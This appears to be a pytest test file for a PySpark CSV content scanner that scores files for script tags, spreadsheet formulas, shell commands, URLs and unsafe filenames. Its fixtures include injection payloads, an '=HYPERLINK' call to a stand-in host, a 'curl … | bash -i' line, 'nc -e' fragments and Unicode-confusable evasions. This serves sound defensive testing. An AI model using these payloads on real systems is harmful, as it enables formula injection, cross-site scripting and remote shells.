import random

import pytest
from pyspark.sql import functions as F

from tabwright.functions import content_rules as rules
from tabwright.operators import scan
from tabwright.sources import csv_files

CASES = [
    ("A,<script>alert(1)</script>", "warning", 30), ("A,javascript:alert(1)", "warning", 30), ("A,=1+1", "warning", 20),
    ('A,=HYPERLINK("http://evil.test")', "warning", 55), ("A,powershell -nop", "warning", 40), ("x" * 100_001, "warning", 40),
    ("A" * 100, "warning", 20), ("A,1", "safe", 0), ("a\x00b", "blocked", 100), ("a,-5", "warning", 20),
    ("a\n =\ncmd", "warning", 20), ("a,\"'= cmd x", "warning", 45), ("\x01\x02ab", "blocked", 100),
    ("a,< IFRAME src=x onclick =1", "warning", 30), ("curl  http://x.y | bash -i >", "warning", 50),
    ("a,=cmd|calc\npowershell -x\nb", "blocked", 85),
]


def test_rules(spark):
    df = spark.createDataFrame([(i, "h,v\n" + t) for i, (t, _, _) in enumerate(CASES)], "i int, t string")
    got = {r["i"]: (r["status"], r["risk_score"]) for r in scan.scan_texts(df, ["i"], F.col("t")).collect()}
    assert got == {i: (status, score) for i, (_, status, score) in enumerate(CASES)}


@pytest.mark.parametrize(
    "name, issue",
    [
        ("a.csv", None), ("a.CSV", None), ("a.b.csv", None), ("", "Filename is required"),
        ("a/b.csv", "Filename must not contain path separators"), ("a..csv", "Path traversal is not allowed"),
        (".csv", "Only .csv files are allowed"), ("x.csv.", "Only .csv files are allowed"), ("no", "Only .csv files are allowed"),
        ("a.exe.csv", "Executable or script extensions are blocked"), ("a\x00.csv", "Filename contains a null byte"),
    ],
)
def test_filenames(spark, name, issue):
    df = spark.createDataFrame([(name,)], "n string")
    assert df.select(rules.filename_issue(F.col("n"))).first()[0] == issue


def test_scan_files_and_listing(spark, tmp_path):
    (tmp_path / "ok.csv").write_bytes("﻿a,b\n1,é\n".encode())
    (tmp_path / "bad.csv").write_bytes(b"a\xff\xfe,1")
    (tmp_path / "nul.csv").write_bytes(b"a\x00b")
    (tmp_path / "run.sh").write_bytes(b"x")
    (tmp_path / "book.xlsx").write_bytes(b"x")
    files = csv_files.read_bytes(spark, str(tmp_path))
    got = {r["path"].rsplit("/", 1)[1]: (r["status"], r["issues"]) for r in scan.scan_files(files).collect()}
    assert got == {
        "ok.csv": ("safe", []), "bad.csv": ("blocked", ["CSV must be valid UTF-8 text"]),
        "nul.csv": ("blocked", ["File contains null bytes"]),
    }
    issues = {r["path"].rsplit("/", 1)[1]: r["issue"] for r in csv_files.encoding_issues(files).collect()}
    assert issues["ok.csv"] is None and issues["bad.csv"] == "CSV must be valid UTF-8 text"
    listed = {r["name"]: r["kind"] for r in csv_files.list_files(spark, str(tmp_path)).collect()}
    assert listed == {"ok.csv": "csv", "bad.csv": "csv", "nul.csv": "csv", "book.xlsx": "xlsx"}
    assert csv_files.file_hashes(files).count() == 3


PIECES = [
    b"a,b", b"x", b"\n", b"\n", b"\r\n", b" ", b"\t", b"<", b"script", b" iframe ", b"JavaScript", b":", b"onerror", b"=", b"bash", b"-i", b"nc",
    b" -e", b"wget", b"Curl", b"http://q.r", b",=cmd|", b"\n-", b"\xc3\xa9", b"A" * 90, "\u2028".encode(), b"0", b"word\x0b",
]
RARE = [b"\x00", b"\xff", b"\x01\x02", b"y" * 100_001, b"\xef\xbb\xbf"]


@pytest.mark.parametrize("split", ["128m", "23"])
def test_scan_by_line_equals_the_scan_of_whole_files(spark, tmp_path, split):
    """The same records, hashes included, wherever byte ranges part the files; patterns over several lines too."""
    rng = random.Random(6)
    for k in range(120):
        body = b"".join(rng.choice(RARE) if rng.random() < 0.01 else rng.choice(PIECES) for _ in range(rng.randint(0, 25)))
        mark = csv_files.BOM if k % 9 == 0 else b""
        (tmp_path / f"f{k}.{'csv' if k % 17 else 'exe.csv'}").write_bytes(mark + body if k else b"")
    for k, lines in enumerate(("a<", "\n \n\tobject;", "on", "nc \n\n-e", "wget\n-", "wget\n(\nx", "xjavascript\n:", "xbash\n-i", "<\nscripts")):
        (tmp_path / f"own {k}.csv").write_text(lines)
    (tmp_path / "mark.csv").write_bytes(csv_files.BOM)
    filled = sum(p.stat().st_size > 0 for p in tmp_path.iterdir())
    spark.conf.set("spark.sql.files.maxPartitionBytes", split)
    try:
        whole = scan.scan_files(csv_files.read_bytes(spark, str(tmp_path))).collect()
        by_line = scan.scan_folder(spark, str(tmp_path), "*.csv").collect()
    finally:
        spark.conf.unset("spark.sql.files.maxPartitionBytes")
    assert {r["path"]: r for r in by_line} == {r["path"]: r for r in whole} and len(by_line) == len(whole) == filled > 120
    assert len({r["risk_score"] for r in whole}) > 6


def test_latest_and_history(spark):
    rows = spark.createDataFrame(
        [("f", 1, "safe"), ("f", 3, "blocked"), ("g", 2, "warning"), ("f", 2, "safe")], "file string, at int, status string"
    )
    assert {(r["file"], r["status"]) for r in scan.latest_scan(rows, "file", "at", "at").collect()} == {("f", "blocked"), ("g", "warning")}
    assert [r["at"] for r in scan.scan_history(rows, "file", "f", "at", "at").collect()] == [3, 2, 1]


def test_a_file_that_was_not_read_is_blocked(spark, tmp_path, monkeypatch):
    monkeypatch.setattr(csv_files, "MAX_FILE_BYTES", 20)
    (tmp_path / "large.csv").write_text("a,b\n" + "1,=cmd|calc\n" * 10)
    (tmp_path / "small.csv").write_text("a,b\n1,2\n")
    files = csv_files.read_bytes(spark, str(tmp_path))
    got = {r.path[-9:]: r for r in scan.scan_files(files).collect()}
    assert got["large.csv"].status == "blocked" and got["large.csv"].issues == [csv_files.TOO_LARGE]
    assert got["large.csv"].risk_score == 100 and got["small.csv"].status == "safe"
    bare = {r.path[-9:]: r for r in scan.scan_files(files.drop("issue")).collect()}
    assert bare["large.csv"].status == "blocked" and bare["large.csv"].issues == [scan.UNREAD]


def test_patterns_tried_on_candidates_alone_find_the_same(spark):
    """Texts of pieces that match, nearly match, fold to ASCII or hold odd white space: no rule loses a text, and plain ones are no candidates."""
    rng = random.Random(4)
    pieces = [
        "<", "script", "SCR\u0130PT", "\u017fcript", "ifr\u0061me", "object", "embed", "javascript", "javascr\u0131pt", ":", "on", "error", "cl\u0131c\u212a", "onclic\u212a", "=",
        "cmd.exe", "powershell", "power\u017fhell", "bash", "ba\u017fh", "-i", "nc", "-e", "wget", "curl", "http://", "https://", "HTTP\u017f://", "x",
        "A" * 79, "B" * 80, "+/" * 40, "==", ",", "\n", "\r\n", "\x0b", "\x1c", "\x1f", "\x85", "\u2028", "\u00a0", "\u3000", " ", "\t", "\"", "'", "+", "-", "@",
        "hyperlink", "import\u212aml", "\u0009", "\u00ad", "\u200b", "\ue000", "\u0378", "\U000e0001", "é", "中", "😀",
    ]
    made = ["", None, "plain words alone."] + ["".join(rng.choice(pieces) for _ in range(rng.randint(1, 6))) for _ in range(6000)]
    text, bits = F.col("t"), F.col("bits")
    rows = spark.createDataFrame([(i, t) for i, t in enumerate(made)], "i int, t string").withColumn("bits", rules.candidate_rules(text))
    whole = {
        "control": rules.unprintable_share(text) > 0, "script": rules.has_script(text), "formula": rules.formula_kind(text),
        "command": rules.has_command(text), "url": rules.has_url(text), "base64": rules.has_base64_run(text),
    }
    for rule, value in whole.items():
        other = F.lit(None).cast("string") if rule == "formula" else None
        found = rows.select(value.alias("want"), rules.where_candidate(bits, rule, value, other).alias("got"))
        assert found.where("want IS NOT NULL AND NOT want <=> got").count() == 0
        assert found.where("got = want").count() > 50
    assert rows.where("i = 2").first()["bits"] == 0


def test_rows_are_dealt_out_once(spark):
    from tabwright.plans.parallel import spread

    dealt = spread(spark.range(10).toDF("i"))
    again = spread(dealt.where("i > 2").select((F.col("i") + 1).alias("j")))
    assert str(again._jdf.queryExecution().optimizedPlan().toString()).count("Repartition") == 1
